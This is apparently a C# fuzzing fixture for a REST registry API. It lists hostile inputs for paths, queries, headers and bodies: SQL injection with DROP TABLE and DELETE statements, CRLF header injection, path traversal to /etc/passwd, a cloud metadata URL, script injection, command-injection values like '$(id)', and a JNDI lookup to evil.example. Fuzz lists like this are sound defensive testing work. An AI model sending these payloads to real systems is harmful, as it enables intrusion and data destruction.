namespace McpRegistry.RestFuzz;

/// <summary>Texts that have broken others.</summary>
internal static class HostileText
{
    public static IReadOnlyList<string> Texts { get; } =
    [
        "", " ", "'", "\"", "''", "\\", "' OR '1'='1", "'; DROP TABLE mcp_servers; --", "1); DELETE FROM api_keys; --", "\" OR \"\"=\"", "%' --", "_%",
        "x\r\nX-Injected: yes", "x\nSet-Cookie: a=b", "\0", "a\0b", "\u0001\u001b[31m", "\u2028\u2029", "\u202e", "\ufeff", "\uffff", "🙂", "é\u0301",
        "../../etc/passwd", "..\\..\\windows", "C:\\", "file:///etc/passwd", "https://169.254.169.254/", "http://[::1]/", "javascript:alert(1)", "//evil.example",
        "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "| id", "null", "undefined", "NaN", "true", "-1", "0", "1e400",
        "9223372036854775808", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "*", "***", "a,b", "a b", "a:b", "9999-12-31T23:59:59Z",
        "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "Europe/../Berlin", "10.0.0.0/33", "::/129", "İ", "ı", "ß",
    ];

    /// <summary>Gets parts of paths, escaped as they are to be sent. None of them can be the slug of a tenant, whom that would name.</summary>
    public static IReadOnlyList<string> Ids { get; } =
    [
        "0", "-1", "x", "%00", "a%00b", "%2e%2e", "%2e%2e%2fservers", "%2F", "%5C", "%ff%fe", "%c0%ae", "%ed%a0%80", "%25", "%", "%zz", "%20", "'%20OR%20'1'%3D'1", "1;drop%20table",
        "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{id}", "%7Bid%7D", "*", "(null)", "[object%20Object]", "%F0%9F%99%82", "%0d%0aX-Injected:%20yes",
        new('a', 4_000), "0198c0de-0000-7000-8000-00000000000g", "%E2%80%AE", "me%20", "..%3b",
    ];

    public static IReadOnlyList<string> Queries { get; } =
    [
        "", "?", "?limit=-1", "?limit=0", "?limit=1001", "?limit=99999999999999999999", "?limit=1&limit=2", "?limit=", "?limit=%00", "?limit=x", "?cursor=", "?cursor=%00", "?cursor=x",
        "?cursor=%ff", "?cursor=AAAA", "?cursor=L3Rlc3Q%3D", "?include=items&include=items", "?include=x", "?%00=%00", "?=", "?&&&", "?a[b]=c", "?limit[]=1", "?serverId=x", "?subjectKind=x",
        "?subjectKind=user&subjectId=%27", "?from=x", "?until=x", "?from=9999-12-31T23:59:59Z", "?action=%27%3B--", "?actor=%00", "?key=x", "?key=00000000-0000-0000-0000-000000000000",
        "?address=999.1.1.1", "?address=::1%25eth0", "?tool=" + new string('a', 2_000), "?tenant=%27", "?user=x&key=y", "?q=%ed%a0%80", "?success=maybe", "?order=;drop",
    ];

    public static IReadOnlyList<(string Name, string Value)> Headers { get; } =
    [
        ("Accept", "text/html"), ("Accept", "*/*;q=0"), ("Accept", ";;;,,"), ("Accept", new string('a', 8_000)), ("Accept-Encoding", "identity;q=0, *;q=0"), ("Accept-Language", "\u00e9"),
        ("If-None-Match", "*"), ("If-None-Match", "garbage"), ("If-Modified-Since", "never"), ("Range", "bytes=0-0,5-1,-"), ("X-Forwarded-For", "'; --"), ("X-HTTP-Method-Override", "DELETE"),
        ("User-Agent", "x' OR 1=1 --"), ("User-Agent", new string('u', 8_000)), ("traceparent", "00-x-y-z"), ("traceparent", "00-00000000000000000000000000000000-0000000000000000-00"),
        ("tracestate", new string('t', 4_000)), ("baggage", "a=b,c"), ("X-Request-Id", "x\u0001"), ("Cookie", "a=b; ; =;"), ("Forwarded", "for=_x;proto=javascript"), ("Content-Encoding", "gzip"),
        ("Expect", "100-continue"), ("X-Tenant", ""),
    ];

    /// <summary>Gets values of If-Match that fit no version.</summary>
    public static IReadOnlyList<string> StaleVersions { get; } =
        ["\"999999\"", "W/\"1\"", "\"-1\"", "\"\"", "garbage", "\"1", "\"99999999999999999999\"", "\"x\", \"y\"", "W/*", "\"1\\\"\"", "\"" + new string('9', 4_000) + "\""];

    /// <summary>Gets types of content that are not JSON in UTF-8.</summary>
    public static IReadOnlyList<string?> ContentTypes { get; } =
        [null, "text/plain", "application/xml", "application/jsonx", "application/json; charset=utf-16", "application/json; charset=", "multipart/form-data; boundary=x", "*/*", ";", "a"];
}
